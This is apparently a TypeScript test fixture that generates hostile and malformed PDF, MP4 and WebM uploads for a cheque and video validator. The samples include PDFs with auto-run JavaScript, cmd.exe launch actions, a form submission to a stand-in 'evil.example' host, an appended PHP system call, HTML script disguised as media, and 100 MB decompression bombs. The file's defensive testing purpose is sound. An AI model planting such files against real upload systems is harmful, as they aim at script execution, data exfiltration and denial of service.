import { deflateSync } from "node:zlib";
import { PDFDocument } from "pdf-lib";
import { makeChequePdf, makeMp4, makePhoto, makeWebm } from "@/e2e/support/files";
import { type Hostile, makeZip, pour, row } from "./hostile.fixtures";

/** A PDF of these objects, the first of them its catalogue, with a right table of them. */
function writePdf(objects: readonly string[], trailer = ""): Buffer {
  let text = "%PDF-1.7\n";
  const places = objects.map((object, index) => {
    const place = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const table = text.length;
  const lines = places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("");
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${lines}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${table}\n%%EOF\n`;
  return Buffer.from(text, "latin1");
}

const stream = (dictionary: string, content: Buffer) =>
  `<< ${dictionary} /Length ${content.length} >>\nstream\n${content.toString("latin1")}\nendstream`;

/** A PDF of one page. What is given goes into its catalogue, into its page, and behind them as objects from 5 on. */
function onePage({ catalogue = "", page = "", objects = [] as string[], trailer = "" } = {}): Buffer {
  return writePdf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 150] /Contents 4 0 R ${page} >>`,
      stream("", Buffer.from("0 0 300 150 re S")),
      ...objects,
    ],
    trailer,
  );
}

function manyPages(count: number): Buffer {
  const kids = Array.from({ length: count }, (_, index) => `${index + 3} 0 R`).join(" ");
  const page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>";
  return writePdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
    ...Array.from({ length: count }, () => page),
  ]);
}

async function attachedPdf(): Promise<Buffer> {
  const document = await PDFDocument.load((await makeChequePdf()).buffer);
  await document.attach(Buffer.from("MZ"), "run.exe", { mimeType: "application/octet-stream" });
  return Buffer.from(await document.save());
}

async function scriptedPdf(): Promise<Buffer> {
  const document = await PDFDocument.load((await makeChequePdf()).buffer);
  document.addJavaScript("main", "app.alert(1)");
  return Buffer.from(await document.save());
}

const whole = async () => (await makeChequePdf()).buffer;
const action = (what: string) => onePage({ catalogue: "/OpenAction 5 0 R", objects: [`<< ${what} >>`] });
const pdf = (
  what: string,
  answer: Hostile["answer"],
  bytes: () => Buffer | Promise<Buffer>,
  name = "cheque.pdf",
) => row("cheque", name, what, answer, bytes);

export const documents: Hostile[] = [
  pdf("PDF with a script", "file-scripted", scriptedPdf),
  pdf("PDF that runs a script when it opens", "file-scripted", () =>
    action("/S /JavaScript /JS (app.alert\\(1\\))"),
  ),
  pdf("PDF whose script is spelled in codes", "file-scripted", () => action("/S /J#61va#53cript /JS (1)")),
  pdf("PDF whose script is named in another object", "file-scripted", () =>
    onePage({ catalogue: "/OpenAction 5 0 R", objects: ["<< /S 6 0 R /JS (1) >>", "/J#61vaScript"] }),
  ),
  pdf("PDF that starts a program", "file-scripted", () => action("/S /Launch /F (cmd.exe)")),
  pdf("PDF that starts a program when a page shows", "file-scripted", () =>
    onePage({ page: "/AA << /O << /S /Launch /F (cmd.exe) >> >>" }),
  ),
  pdf("PDF that sends a form", "file-scripted", () => action("/S /SubmitForm /F (https://evil.example)")),
  pdf("PDF form with scripts of its own (XFA)", "file-scripted", () =>
    onePage({
      catalogue: "/AcroForm << /XFA 5 0 R /Fields [] >>",
      objects: [stream("", Buffer.from("<xdp/>"))],
    }),
  ),
  pdf("PDF with a film that runs", "file-scripted", () =>
    onePage({ page: "/Annots [5 0 R]", objects: ["<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"] }),
  ),
  pdf("PDF with a program inside", "file-scripted", attachedPdf),
  pdf("PDF with a page of HTML in it", "file-scripted", () =>
    onePage({ objects: [stream("", Buffer.from("<html><script>alert(1)</script>"))] }),
  ),
  pdf("PDF that opens at its first page", "taken", () => onePage({ catalogue: "/OpenAction [3 0 R /Fit]" })),
  pdf("PDF with a link", "taken", () =>
    onePage({
      page: "/Annots [5 0 R]",
      objects: [
        "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://a.example) >> >>",
      ],
    }),
  ),
  pdf("PDF with a password", "file-locked", () =>
    onePage({
      objects: ["<< /Filter /Standard /V 1 /R 2 /O (o) /U (u) /P -4 >>"],
      trailer: "/Encrypt 5 0 R",
    }),
  ),
  pdf("PDF without a page", "file-broken", () =>
    writePdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"]),
  ),
  pdf("PDF of 10,000 pages", "file-pages", () => manyPages(10_000)),
  pdf("PDF whose pages are their own parent", "file-broken", () =>
    writePdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]),
  ),
  pdf("PDF whose table of objects is elsewhere", "file-broken", () =>
    Buffer.from(
      onePage()
        .toString("latin1")
        .replace(/startxref\n\d+/, "startxref\n7"),
      "latin1",
    ),
  ),
  pdf("PDF without a table of objects", "file-broken", () =>
    Buffer.from(
      onePage()
        .toString("latin1")
        .replace(/startxref\n\d+\n/, ""),
      "latin1",
    ),
  ),
  pdf("PDF cut in half", "file-broken", async () => (await whole()).subarray(0, 700)),
  pdf("first eight bytes of a PDF", "file-broken", () => Buffer.from("%PDF-1.7")),
  pdf("PDF of brackets a million deep", "file-broken", () => onePage({ objects: ["[".repeat(1_000_000)] })),
  pdf("PDF that unpacks to 100 MB", "file-broken", () =>
    onePage({ objects: [stream("/Filter /FlateDecode", deflateSync(Buffer.alloc(100 * 1024 * 1024)))] }),
  ),
  pdf("PDF packed twice, 100 MB in the end", "file-broken", () =>
    onePage({
      objects: [
        stream(
          "/Filter [/FlateDecode /FlateDecode]",
          deflateSync(deflateSync(Buffer.alloc(100 * 1024 * 1024))),
        ),
      ],
    }),
  ),
  pdf("PDF with a ZIP behind it", "file-broken", async () => Buffer.concat([await whole(), makeZip()])),
  pdf("PDF that is a ZIP as well", "file-broken", async () => {
    const comment = Buffer.from("\n%%EOF\n");
    const zip = makeZip();
    zip.writeUInt16LE(comment.length, zip.length - 2);
    return Buffer.concat([await whole(), zip, comment]);
  }),
  pdf("PDF with PHP behind it", "file-broken", async () =>
    Buffer.concat([await whole(), Buffer.from("<?php system('id'); ?>")]),
  ),
  pdf("bytes before a PDF", "file-type", async () => Buffer.concat([Buffer.from("GIF89a\n"), await whole()])),
  pdf("page of HTML named .pdf", "file-type", () => Buffer.from("<html><script>alert(1)</script></html>")),
  pdf("ZIP named .pdf", "file-type", () => makeZip()),
  pdf("PDF named .jpg", "file-type", whole, "cheque.jpg"),
  pdf("PDF named .html", "file-type", whole, "cheque.html"),
  row("photo", "me.pdf", "PDF where a picture is asked", "file-type", whole),
];

const video = (
  what: string,
  answer: Hostile["answer"],
  bytes: () => Buffer | Promise<Buffer>,
  name = "me.mp4",
) => row("video", name, what, answer, bytes);

function mp4Box(type: string, content: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(8 + content.length);
  head.write(type, 4, "latin1");
  return Buffer.concat([head, content]);
}

/** The video with the number before a word in it changed: the size of that box. */
function resized(type: string, size: number): Buffer {
  const { buffer } = makeMp4();
  buffer.writeUInt32BE(size, buffer.indexOf(type) - 4);
  return buffer;
}

const page = Buffer.from("<html><script>alert(1)</script></html>");

export const videos: Hostile[] = [
  video("MP4 of sound alone", "file-no-picture", () => makeMp4("me.mp4", ["soun"]).buffer),
  video("MP4 without a track", "file-broken", () => makeMp4("me.mp4", []).buffer),
  video("MP4 whose description is too long for it", "file-broken", () => resized("trak", 0x7fffffff)),
  video("MP4 whose description is of no size", "file-broken", () => resized("mdia", 0)),
  video("MP4 whose box runs past the file", "file-broken", () => resized("mdat", 0x7fffffff)),
  video("MP4 cut before its media", "file-broken", () => makeMp4().buffer.subarray(0, -2056)),
  video("MP4 without its last bytes", "file-broken", () => makeMp4().buffer.subarray(0, -10)),
  video("MP4 of media alone", "file-broken", () => {
    const { buffer } = makeMp4();
    return Buffer.concat([buffer.subarray(0, 32), buffer.subarray(-2056)]);
  }),
  video("MP4 with a page of HTML in a free box", "file-broken", () =>
    Buffer.concat([makeMp4().buffer, mp4Box("free", page)]),
  ),
  video("MP4 with a page of HTML behind it", "file-broken", () => Buffer.concat([makeMp4().buffer, page])),
  video("MP4 with a ZIP behind it", "file-broken", () => Buffer.concat([makeMp4().buffer, makeZip()])),
  video("MP4 of a million empty boxes", "file-broken", () =>
    Buffer.concat([makeMp4().buffer.subarray(0, 32), ...Array.from({ length: 1_000_000 }, () => empty)]),
  ),
  video("MP4 whose size counts backwards", "file-broken", () => {
    const box = Buffer.alloc(16, 0xff);
    box.writeUInt32BE(1);
    box.write("free", 4, "latin1");
    return Buffer.concat([makeMp4().buffer, box]);
  }),
  video("words named .mp4", "file-type", () => Buffer.from("This is no video at all.")),
  video("page of HTML named .mp4", "file-type", () => page),
  video("film of QuickTime named .mp4", "file-type", () =>
    Buffer.concat([mp4Box("ftyp", Buffer.from("qt  \0\0\0\0qt  ")), makeMp4().buffer.subarray(32)]),
  ),
  video("JPEG named .mp4", "file-type", async () => (await makePhoto()).buffer),
  video("MP4 named .webm", "file-type", () => makeMp4().buffer, "me.webm"),
  video("WebM named .mp4", "file-type", () => makeWebm().buffer),
  video("WebM without a track", "file-broken", () => makeWebm("me.webm", []).buffer, "me.webm"),
  video("WebM of sound alone", "file-no-picture", () => makeWebm("me.webm", [2]).buffer, "me.webm"),
  video("WebM without its last bytes", "file-broken", () => makeWebm().buffer.subarray(0, -3), "me.webm"),
  video(
    "WebM with a page of HTML behind it",
    "file-broken",
    () => Buffer.concat([makeWebm().buffer, page]),
    "me.webm",
  ),
  video(
    "Matroska named .webm",
    "file-type",
    () => Buffer.from(makeWebm().buffer.toString("latin1").replace("webm", "mkvm"), "latin1"),
    "me.webm",
  ),
  video("no byte at all", "file-empty", () => Buffer.alloc(0)),
  {
    ...video("100 MB that begin as an MP4", "file-too-large", () => makeMp4().buffer),
    content: () => pour(makeMp4().buffer, 100),
  },
];

const empty = Buffer.from([0, 0, 0, 8, 0x66, 0x72, 0x65, 0x65]);
